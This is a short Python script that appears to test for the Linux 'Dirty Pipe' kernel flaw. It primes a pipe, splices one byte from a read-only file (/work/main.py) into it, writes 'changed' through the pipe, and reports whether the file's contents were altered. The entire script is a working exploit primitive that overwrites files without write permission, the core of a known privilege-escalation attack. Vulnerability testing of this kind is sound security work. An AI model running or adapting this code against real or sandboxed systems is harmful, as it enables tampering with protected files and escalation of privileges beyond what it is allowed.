import ctypes
import os

path = "/work/main.py"
before = open(path, "rb").read()
libc = ctypes.CDLL(None, use_errno=True)
reading, writing = os.pipe()
for _ in range(16):
    os.write(writing, b"x" * 4096)
for _ in range(16):
    os.read(reading, 4096)
file = os.open(path, os.O_RDONLY)
offset = ctypes.c_longlong(3)
libc.splice(file, ctypes.byref(offset), writing, None, ctypes.c_size_t(1), 0)
os.write(writing, b"changed")
print("unchanged" if open(path, "rb").read() == before else "changed")
